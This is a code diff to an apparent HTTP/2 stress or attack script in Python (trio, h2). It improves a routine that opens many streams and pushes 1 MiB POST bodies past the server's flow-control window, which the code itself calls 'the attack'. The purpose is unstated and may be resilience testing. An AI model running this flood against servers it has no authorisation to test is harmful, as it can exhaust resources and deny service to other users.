@@ -97,25 +97,46 @@ async def h2_partial_post(host: str, port: int) -> None:
 
 async def h2_streams(host: str, port: int) -> None:
     stream, connection = await open_h2(host, port)
+    window_opened = trio.Event()
     chunk = b"x" * 16384
-    try:
+    sending = trio.Lock()
+
+    async def flush() -> None:
+        async with sending:
+            await stream.send_all(connection.data_to_send())
+
+    async def read_frames() -> None:
+        # The server's WINDOW_UPDATEs let the bodies go out whole; SETTINGS are acked.
+        nonlocal window_opened
+        while data := await stream.receive_some():
+            connection.receive_data(data)
+            await flush()
+            window_opened.set()
+            window_opened = trio.Event()
+
+    async def send_bodies() -> None:
         for number in range(STREAMS_PER_CONNECTION):
             stream_id = 1 + 2 * number
             connection.send_headers(stream_id, post_headers(host, MIB))
-            if not await send_quietly(stream, connection.data_to_send()):
-                return
             sent = 0
             while sent < MIB:
-                try:
-                    size = min(len(chunk), connection.local_flow_control_window(stream_id))
-                except h2.exceptions.ProtocolError:
-                    return  # the server ended the connection or the stream
+                size = min(len(chunk), MIB - sent, connection.local_flow_control_window(stream_id))
                 if size == 0:
-                    break  # the server's window is shut: on to the next stream
+                    with trio.move_on_after(TIMEOUT):
+                        await window_opened.wait()
+                        continue
+                    return  # the server's window stays shut
                 connection.send_data(stream_id, chunk[:size])
                 sent += size
-                if not await send_quietly(stream, connection.data_to_send()):
-                    return
+                await flush()
+
+    try:
+        async with trio.open_nursery() as nursery:
+            nursery.start_soon(read_frames)
+            await send_bodies()
+            nursery.cancel_scope.cancel()
+    except* (trio.BrokenResourceError, trio.ClosedResourceError, h2.exceptions.ProtocolError):
+        pass  # the server ended the connection: the attack is over for it
     finally:
         await stream.aclose()
 
